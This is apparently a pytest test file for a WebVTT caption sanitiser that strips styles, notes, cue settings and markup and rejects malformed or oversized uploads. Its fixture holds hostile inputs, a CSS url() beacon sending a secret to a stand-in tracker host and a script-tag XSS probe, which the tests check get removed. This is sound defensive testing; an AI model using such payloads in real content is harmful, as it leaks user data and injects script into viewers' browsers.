import io

import pytest

from network import uploads
from tests.network.uploads.hostile import SECRET

CAPTIONS = f"""\ufeffWEBVTT - {SECRET}

STYLE
::cue {{ background: url(https://tracker.example/{SECRET}) }}

NOTE {SECRET}

{SECRET}
00:00:01.000 --> 00:00:03.500 position:10% {SECRET}
<v Amal>I left <i>twice</i> & <script>alert(1)</script>

00:03.500 --> 00:05.000
مشيت طويلا
second line &lt;b&gt; --&gt;
"""


def rebuilt(text: str | bytes, **limits: int) -> str:
    content = text.encode() if isinstance(text, str) else text
    result = uploads.rebuild_captions(
        io.BytesIO(content), limits=uploads.Limits(**limits)
    )
    return result.read().decode()


def test_times_and_words_stay_and_the_rest_goes() -> None:
    assert rebuilt(CAPTIONS) == (
        "WEBVTT\n\n"
        "00:00:01.000 --> 00:00:03.500\n"
        "<v Amal>I left twice &amp; alert(1)\n\n"
        "00:00:03.500 --> 00:00:05.000\n"
        "مشيت طويلا\n"
        "second line &lt;b&gt; →\n"
    )


def test_rebuilding_again_changes_nothing() -> None:
    assert rebuilt(rebuilt(CAPTIONS)) == rebuilt(CAPTIONS)


def test_end_of_the_last_cue_is_the_duration() -> None:
    result = uploads.rebuild_captions(io.BytesIO(CAPTIONS.encode()))
    assert result.duration == 5
    assert result.content_type == "text/vtt"


@pytest.mark.parametrize(
    "content",
    [
        "",
        "no captions",
        "WEBVTT\n",
        "WEBVTT\n\n00:00:05.000 --> nonsense\nhello\n",
        CAPTIONS.encode("utf-16"),
        b"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n\xff\xfe\n",
    ],
)
def test_unreadable_captions_are_refused(content: str | bytes) -> None:
    with pytest.raises(uploads.Rejected):
        rebuilt(content)


@pytest.mark.parametrize(
    "times",
    [("00:05.000 --> 00:04.000", "00:06.000 --> 00:07.000"),
     ("00:05.000 --> 00:06.000", "00:01.000 --> 00:02.000")],
)  # fmt: skip
def test_cues_out_of_order_are_refused_by_number(times: tuple[str, str]) -> None:
    text = "WEBVTT\n\n" + "\n\n".join(f"{time}\nwords" for time in times)
    with pytest.raises(uploads.Rejected, match=r"Caption \d"):
        rebuilt(text)


def test_caps() -> None:
    with pytest.raises(uploads.Rejected, match="too long"):
        rebuilt(CAPTIONS, cues=1)
    with pytest.raises(uploads.Rejected, match="larger than"):
        rebuilt(CAPTIONS, captions_bytes=50)
